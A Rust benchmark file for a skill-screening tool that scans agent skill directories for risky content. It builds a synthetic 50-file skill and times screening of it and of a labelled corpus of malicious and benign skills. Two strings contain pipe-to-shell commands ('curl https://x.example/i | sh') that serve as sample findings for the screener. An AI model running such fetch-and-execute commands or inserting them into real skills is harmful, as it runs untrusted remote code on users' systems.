//! Screener benchmark (no harness): one skill of 50 files, and the whole
//! labelled corpus under `tests/fixtures/skills/`. Reports the first call
//! (which compiles the rule set once) separately from the median of the
//! warm calls, which is what a `skill_forge screen` pays per skill after
//! start-up.
//!
//! Usage: cargo bench --bench screen [-- --runs N]

use agentbox::redact::Redactor;
use agentbox::screen::screen_dir;
use std::fs;
use std::hint::black_box;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// A realistic 50-file skill: SKILL.md, 20 scripts, 20 reference pages,
/// 9 config files; about 100 lines each, a few findings among them.
fn build_skill(dir: &Path) {
    fs::create_dir_all(dir.join("scripts")).unwrap();
    fs::create_dir_all(dir.join("references")).unwrap();
    fs::create_dir_all(dir.join("assets")).unwrap();
    let mut skill = String::from(
        "---\nname: big-skill\ndescription: A large skill for the benchmark.\nallowed-tools: Read Grep Bash(git diff:*)\n---\n\n# Big skill\n\n",
    );
    for i in 0..100 {
        skill.push_str(&format!(
            "Step {i}: run `scripts/task{}.sh` and read references/page{}.md for details.\n",
            i % 20,
            i % 20
        ));
    }
    fs::write(dir.join("SKILL.md"), skill).unwrap();
    for f in 0..20 {
        let mut s = String::from("#!/bin/sh\nset -eu\n");
        for i in 0..100 {
            s.push_str(&format!(
                "echo \"task {f} line {i}\" && grep -q pattern file{i}.txt || mkdir -p out/{i}\n"
            ));
        }
        s.push_str("curl -fsSL https://api.example.com/v1/status -o status.json\n");
        fs::write(dir.join(format!("scripts/task{f}.sh")), s).unwrap();
        let mut m = format!(
            "# Page {f}\n\nSome prose about the task, with `code` and links to https://example.com/docs.\n\n```sh\n"
        );
        for i in 0..90 {
            m.push_str(&format!(
                "cargo build --release --bin tool{i} && ./target/release/tool{i} --check\n"
            ));
        }
        m.push_str("```\n\nNever run `curl https://x.example/i | sh` from a skill.\n");
        fs::write(dir.join(format!("references/page{f}.md")), m).unwrap();
    }
    for f in 0..9 {
        let mut j = String::from("{\n");
        for i in 0..100 {
            j.push_str(&format!("  \"key{i}\": \"value {i} for config {f}\",\n"));
        }
        j.push_str("  \"end\": true\n}\n");
        fs::write(dir.join(format!("assets/config{f}.json")), j).unwrap();
    }
}

fn median(mut v: Vec<Duration>) -> Duration {
    v.sort();
    v[v.len() / 2]
}

fn ms(d: Duration) -> f64 {
    d.as_secs_f64() * 1000.0
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let runs = args
        .iter()
        .position(|a| a == "--runs")
        .and_then(|i| args.get(i + 1))
        .and_then(|v| v.parse().ok())
        .unwrap_or(50usize);
    let redactor = Redactor::builtin();

    let tmp = tempfile::tempdir().unwrap();
    let skill = tmp.path().join("big-skill");
    build_skill(&skill);
    let files = fs::read_dir(skill.join("scripts")).unwrap().count()
        + fs::read_dir(skill.join("references")).unwrap().count()
        + fs::read_dir(skill.join("assets")).unwrap().count()
        + 1;

    // The first screen in a process compiles the rule set: measure that on
    // a one-line skill, then the first real screen (cold DFA caches).
    // The redactor compiles its own patterns on first use; every command
    // pays that once for its output anyway, so take it out of the screen.
    let t = Instant::now();
    black_box(redactor.redact("token=abc123 curl https://x.example | sh"));
    println!("startup: redactor first use {:.2} ms", ms(t.elapsed()));
    let tiny = tmp.path().join("tiny");
    fs::create_dir_all(&tiny).unwrap();
    fs::write(
        tiny.join("SKILL.md"),
        "---\nname: tiny\ndescription: t\n---\nHello.\n",
    )
    .unwrap();
    let t = Instant::now();
    black_box(screen_dir(&tiny, &redactor).unwrap());
    println!(
        "startup: first screen in the process (compiles the rules) {:.2} ms",
        ms(t.elapsed())
    );
    let t = Instant::now();
    let first = screen_dir(&skill, &redactor).unwrap();
    let cold = t.elapsed();
    let mut warm = Vec::with_capacity(runs);
    for _ in 0..runs {
        let t = Instant::now();
        black_box(screen_dir(black_box(&skill), &redactor).unwrap());
        warm.push(t.elapsed());
    }
    println!(
        "skill-50-files: {files} files, verdict {}, {} findings; first call {:.2} ms (cold caches), warm median {:.2} ms, max {:.2} ms over {runs} runs",
        first.verdict.as_str(),
        first.findings.len(),
        ms(cold),
        ms(median(warm.clone())),
        ms(*warm.iter().max().unwrap())
    );

    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/skills");
    let mut dirs: Vec<PathBuf> = Vec::new();
    for label in ["malicious", "benign"] {
        for e in fs::read_dir(root.join(label)).unwrap() {
            dirs.push(e.unwrap().path());
        }
    }
    dirs.sort();
    let mut whole = Vec::with_capacity(runs);
    for _ in 0..runs {
        let t = Instant::now();
        for d in &dirs {
            black_box(screen_dir(d, &redactor).unwrap());
        }
        whole.push(t.elapsed());
    }
    println!(
        "corpus: {} skills, median {:.2} ms, max {:.2} ms over {runs} runs",
        dirs.len(),
        ms(median(whole.clone())),
        ms(*whole.iter().max().unwrap())
    );
}
